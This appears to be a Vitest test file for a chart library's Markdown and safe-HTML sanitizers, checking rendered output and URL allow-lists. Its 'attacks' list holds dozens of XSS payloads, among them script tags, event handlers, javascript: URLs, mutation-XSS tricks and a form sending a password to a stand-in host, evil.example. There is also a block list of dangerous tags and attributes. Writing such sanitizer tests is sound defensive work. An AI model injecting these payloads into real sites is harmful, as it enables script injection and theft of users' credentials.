// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { safeImage, safeLink } from "../../src/charts/allowed";
import { browser } from "../../src/charts/browser";
import { markdown as markdownTrees } from "../../src/charts/kinds/markdown";
import { safeHtml as safeHtmlTrees } from "../../src/charts/kinds/safe-html";
import { markup } from "../../src/charts/markup";
import { Mount } from "../../src/charts/mount";
import { type Tree, h } from "../../src/charts/tree";

const markdown = (text: string): Tree => h("div", {}, ...markdownTrees(text, browser.parseHtml));
const safeHtml = (text: string): Tree => h("div", {}, ...safeHtmlTrees(text, browser.parseHtml));

function inPage(tree: Tree): HTMLElement {
  const box = document.createElement("div");
  new Mount(box).show(tree);
  return box.querySelector("div")!;
}

const html = (tree: Tree): string => inPage(tree).innerHTML;

describe("markdown", () => {
  it.each([
    ["# Title", "<h1>Title</h1>"],
    ["a **b** *c* ~~d~~ `e<f>`", "<p>a <strong>b</strong> <em>c</em> <del>d</del> <code>e&lt;f&gt;</code></p>"],
    ["- a\n- b\n  - c", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"],
    ["2. a\n3. b", '<ol start="2"><li>a</li><li>b</li></ol>'],
    ["> q", "<blockquote><p>q</p></blockquote>"],
    ["```\n<b>\n```", "<pre><code>&lt;b&gt;</code></pre>"],
    ["a|b\n-|-\n1|2", "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"],
    ["---", "<hr>"],
    ["snake_case_name", "<p>snake_case_name</p>"],
    ["\\*no\\*", "<p>*no*</p>"],
    ["- [x] done", "<ul><li>☑ done</li></ul>"],
  ])("%j", (text, expected) => expect(html(markdown(text))).toBe(expected));
  it("makes links that leave the frame", () => {
    expect(html(markdown("[a](https://example.org)"))).toBe('<p><a href="https://example.org" rel="noopener noreferrer nofollow" target="_blank">a</a></p>');
  });
});

/** Nothing that can act: no script, handler, frame, form, foreign element or address with a scheme of its own. */
function isHarmless(tree: Tree): void {
  const box = inPage(tree);
  // As text it is the same, and stays so when it is read again.
  const text = markup(tree);
  box.insertAdjacentHTML("beforeend", text);
  for (const element of box.querySelectorAll("*")) {
    expect(element.namespaceURI).toBe("http://www.w3.org/1999/xhtml");
    expect(["script", "style", "iframe", "object", "embed", "form", "input", "meta", "link", "base", "svg", "math", "template"]).not.toContain(element.localName);
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^(srcdoc|formaction|action|xlink:href|id|class|name|is|slot|ping|srcset)$/i);
      if (name === "href" || name === "src") expect(value.replace(/\s/g, "")).toMatch(/^(https?:|mailto:|data:image\/|#|\/(?!\/)|\?|[^:]*$)/i);
      if (name === "style") expect(value).not.toMatch(/url\(|expression|position|@import|javascript/i);
    }
  }
}

const ATTACKS = [
  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", '<img src=x onerror="alert(1)">', "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>", '<a href="javascript:alert(1)">x</a>', '<a href=" java\tscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:x">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="//evil.example"><input name=password></form>', '<div style="background:url(javascript:alert(1))">x</div>', '<div style="position:fixed;inset:0">x</div>',
  '<div style="width:expression(alert(1))">x</div>', '<div style="background-color:\\75rl(//evil.example)">x</div>', '<base href="//evil.example">', '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href="//evil.example">', "<object data=x></object>", '<template><img src=x onerror=alert(1)></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<details ontoggle=alert(1) open>x</details>', '<p id="dashwright-data" class="dw-panel">x</p>', "<x-y onclick=alert(1)>x</x-y>",
  '<a href="//evil.example">x</a>', '<a href="\\\\evil.example">x</a>', '<img src="//evil.example/x.png">', "<style>*{display:none}</style>", "<plaintext>", "<textarea><img src=x onerror=alert(1)></textarea>",
];

describe("attacks come to nothing", () => {
  it.each(ATTACKS)("as HTML: %s", (attack) => isHarmless(safeHtml(attack)));
  it.each(ATTACKS)("in Markdown: %s", (attack) => isHarmless(markdown(`text\n\n${attack}\n\n${attack} inline ${attack}`)));
  it.each([
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "![x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html;base64,AAAA)", "<javascript:alert(1)>",
    '[a](https://example.org" onmouseover="alert(1))', "![a](x\" onerror=alert(1))", "[![x](javascript:1)](javascript:2)", "`<script>`", "a <script>alert(1)</script> b",
  ])("Markdown's own: %s", (attack) => isHarmless(markdown(attack)));
  it("does not hang on long input", () => {
    const began = Date.now();
    for (const piece of ["**", "[", "![", "_a", "`", "<", "](", "- ", "> ", "|-"]) inPage(markdown(piece.repeat(3000)));
    expect(Date.now() - began).toBeLessThan(4000);
  });
});

describe("addresses", () => {
  it.each([["https://a.b", true], ["mailto:a@b.c", true], ["/x", true], ["#x", true], ["?a=1", true], ["page.html", true], ["javascript:1", false], ["//evil", false], ["/\\evil", false], ["ftp://x", false]])(
    "link %s: %s", (address, allowed) => expect(safeLink(address) !== null).toBe(allowed));
  it.each([["https://a/b.png", true], ["data:image/png;base64,AAAA", true], ["data:image/svg+xml;base64,AAAA", false], ["x.png", false], ["javascript:1", false]])(
    "image %s: %s", (address, allowed) => expect(safeImage(address) !== null).toBe(allowed));
});
